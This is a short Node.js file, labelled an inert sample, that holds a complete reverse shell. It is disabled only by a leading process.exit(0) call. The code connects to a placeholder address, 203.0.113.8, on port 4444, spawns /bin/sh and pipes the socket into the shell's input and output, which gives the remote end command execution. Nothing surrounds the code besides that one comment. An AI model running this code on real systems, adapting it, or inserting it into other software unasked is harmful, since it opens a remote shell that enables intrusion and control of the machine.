process.exit(0); // inert sample
const net = require('net');
const { spawn } = require('child_process');
const client = net.connect(4444, '203.0.113.8', () => {
  const sh = spawn('/bin/sh', []);
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
  sh.stderr.pipe(client);
});
